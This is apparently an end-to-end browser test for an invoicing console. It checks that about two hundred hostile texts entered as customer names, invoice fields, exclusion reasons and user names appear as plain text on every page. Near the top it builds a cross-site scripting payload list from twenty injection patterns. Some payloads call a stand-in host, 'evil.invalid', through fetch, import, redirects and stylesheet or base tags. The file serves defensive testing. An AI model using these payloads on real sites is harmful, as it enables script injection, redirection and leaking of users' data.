import { describeInBrowser } from '../support/browser';
import { ConsoleVisitor } from '../support/console-visitor';
import { invitedPerson } from '../support/invited-person';
import { World } from '../support/world';
import { BUYER, invoice } from '../support/xero-documents';

const KEY = 'key-of-the-console-with-hostile-texts';
const SLOW_MS = 600_000;
const EVIL = '//evil.invalid';

/** Scripts that an attacker might run in a page. */
const DEEDS = [
  ...['alert(1)', 'prompt()', 'confirm()', 'print()', 'window.taken=1', "document.title='taken'"],
  ...[`fetch('${EVIL}')`, `import('${EVIL}/x')`, `top.location='${EVIL}'`, "eval('window.taken=1')"],
];
/** Ways in which a text might run such a script. */
const WAYS: readonly ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `<svg onload="${deed}">`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `" autofocus onfocus="${deed}`,
  (deed) => `' onmouseover='${deed}`,
  (deed) => `<a href="javascript:${deed}">pay</a>`,
  (deed) => `javascript:${deed}`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) => `</title><script>${deed}</script>`,
  (deed) => `</textarea><img src=x onerror="${deed}">`,
  (deed) => `<iframe srcdoc="<script>${deed}</script>">`,
  (deed) => `<math><mtext><style><img src=x onerror="${deed}">`,
  (deed) => `{{constructor.constructor("${deed}")()}}`,
  (deed) => `\${${deed}}`,
  (deed) => `<details open ontoggle="${deed}">`,
  (deed) => `<style>@import"${EVIL}/x"</style>${deed}`,
  (deed) => `<link rel=stylesheet href="${EVIL}/x">${deed}`,
  (deed) => `<base href="${EVIL}/">${deed}`,
  (deed) => `<form action="${EVIL}"><button>${deed}`,
];
const TEXTS = WAYS.flatMap((way) => DEEDS.map((deed) => way(deed)));
/** Number of these texts in the books; the others are reasons and names typed by people. */
const OF_BOOKS = 160;

/** Elements that the texts would create, and that none of our pages has. */
const MADE = `script:not([src]), iframe, base, svg[onload], img[src="x"], details[ontoggle], form[action*="evil"],
  a[href^="javascript:"], a[href^="data:"], [onerror], [onfocus], [onmouseover]`;

/** Checks that texts of strangers, books and people are shown as plain text. */
describeInBrowser('two hundred hostile texts', (browser) => {
  let world: World;
  const documents: string[] = [];

  beforeAll(async () => {
    world = await World.start({ ADMIN_API_KEY: KEY });
    const { Contacts, Invoices } = booksOf(TEXTS.slice(0, OF_BOOKS));
    await world.books({ Invoices, Contacts: [BUYER, ...Contacts] });
    for (const { InvoiceID } of Invoices) documents.push((await world.until(InvoiceID, 'waiting')).id);
    const rest = TEXTS.slice(OF_BOOKS);
    for (const [index, reason] of rest.slice(0, 20).entries())
      await world.api.send('POST', `/api/documents/${documents[index]}/exclude`, { reason });
    for (const name of rest.slice(20))
      await invitedPerson(world.api, name, [{ role: 'reader', organisationId: null }]);
  }, SLOW_MS);

  afterAll(() => world.stop(), SLOW_MS);

  it(
    'are shown as texts on every page: none runs, and none makes an element, a dialog or a request',
    async () => {
      const visitor = await ConsoleVisitor.at(browser(), world.api.url, {
        viewport: { width: 1440, height: 1000 },
      });
      const { page } = visitor;
      const dialogs: string[] = [];
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      await visitor.open('/');
      await visitor.signIn(KEY);
      const shown = new Set<string>();
      for (const path of pagesOf(documents)) {
        await visitor.open(path);
        await visitor.settled();
        const text = await page.evaluate<string>(
          `document.body.innerText + [...document.querySelectorAll('input, textarea')].map(({ value }) => value).join('\\n')`,
        );
        for (const hostile of TEXTS) if (text.includes(hostile)) shown.add(hostile);
        const made = await page.evaluate<string[]>(
          `[...document.querySelectorAll(${JSON.stringify(MADE)})].map(({ outerHTML }) => outerHTML.slice(0, 200))`,
        );
        expect([path, made, await page.title(), await page.evaluate('window.taken')]).toEqual([
          path,
          [],
          expect.not.stringContaining('taken'),
          undefined,
        ]);
      }
      expect([dialogs, visitor.complaints]).toEqual([[], []]);
      // Ignores item codes, of which pages show only those of the largest causes.
      const isItem = (index: number): boolean => index < OF_BOOKS && index % 4 === 3;
      expect(TEXTS.filter((text, index) => !isItem(index) && !shown.has(text))).toEqual([]);
      await visitor.leave();
    },
    SLOW_MS,
  );
});

/**
 * Books with four texts per invoice: customer name, reference, description and item code. No customer has a TIN, so all
 * documents are held.
 */
function booksOf(texts: readonly string[]) {
  const Contacts: Record<string, unknown>[] = [];
  const Invoices = Array.from({ length: texts.length / 4 }, (_, index) => {
    const [name = '', reference = '', description = '', item = ''] = texts.slice(4 * index, 4 * index + 4);
    const ContactID = `7b0b3c2e-5d0e-4d0c-8f46-${String(index).padStart(12, '0')}`;
    Contacts.push({ ...BUYER, ContactID, Name: name, CompanyNumber: '', TaxNumber: '' });
    const document = invoice({ contactId: ContactID, description });
    const [line = {}] = document['LineItems'] as Record<string, unknown>[];
    return {
      ...document,
      Reference: reference,
      LineItems: [{ ...line, Description: description, ItemCode: item }],
    };
  });
  return { Contacts, Invoices };
}

function pagesOf(documents: readonly string[]): string[] {
  return [
    ...['/', '/board', '/clients', '/documents', '/fix-list', '/backfills', '/reconciliation', '/set-up'],
    ...['/activity', '/people', '/tokens', '/confirmations', '/close', '/mappings?part=overview'],
    ...['taxes', 'items', 'buyers', 'exclusions', 'file'].map((part) => `/mappings?part=${part}`),
    ...['organisation', 'account', 'alerts', 'personal', 'system'].map((part) => `/settings?part=${part}`),
    ...documents.map((id) => `/documents/${id}`),
  ];
}
